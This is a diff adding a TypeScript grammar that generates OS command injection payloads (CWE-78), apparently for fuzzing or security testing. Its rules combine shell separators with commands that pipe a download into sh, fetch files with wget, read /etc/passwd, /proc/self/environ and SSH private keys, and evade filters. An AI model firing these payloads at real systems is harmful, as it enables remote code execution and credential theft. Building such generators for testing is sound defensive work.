@@ -1,0 +1,52 @@
+import type { Grammar } from '../grammar.ts';
+import { words } from '../words.ts';
+
+/** OS command injection (CWE-78). */
+export const command: Grammar = {
+  ...words,
+  start: [
+    '<value><sep><command><rest>',
+    '<value><sep>{<program>,<file>}',
+    '$(<command>)',
+    '`<command>`',
+    '<value><sep><command> | <program>',
+  ],
+  value: ['', '<number>', '<ident>', '<host>', '<ident>.txt', '"', "'"],
+  sep: [';', '|', '||', '&', '&&', '%0a', '\n', '; ', ' & ', ' | '],
+  command: [
+    '<program>',
+    '<program> <file>',
+    '<path><program> <file>',
+    'ping -<letter> <number> <host>',
+    'curl http://<host>/<ident> | sh',
+    'sleep <digit>',
+    'wget http://<host>/<ident> -O /tmp/<ident>',
+    'nslookup <ident>.<host>',
+    'powershell -c <ident>',
+    'type C:\\<ident>.ini',
+    "c''at <file>",
+    'ca\\t <file>',
+    'cat${IFS}<file>',
+    '<program>$IFS$9<file>',
+  ],
+  program: [
+    'id',
+    'whoami',
+    'ls',
+    'cat',
+    'uname',
+    'ifconfig',
+    'nc',
+    'bash',
+    'python3',
+    'head',
+    'tac',
+    'env',
+    'ps',
+    'netstat',
+    'dir',
+  ],
+  path: ['/bin/', '/usr/bin/', '/u?r/b?n/', ''],
+  file: ['/etc/passwd', '/etc/hosts', '/proc/self/environ', '-la', '-a', '/home/<ident>/.ssh/id_rsa', './<ident>'],
+  rest: ['', ' #', ' ;', ' &&', "'", '"'],
+};
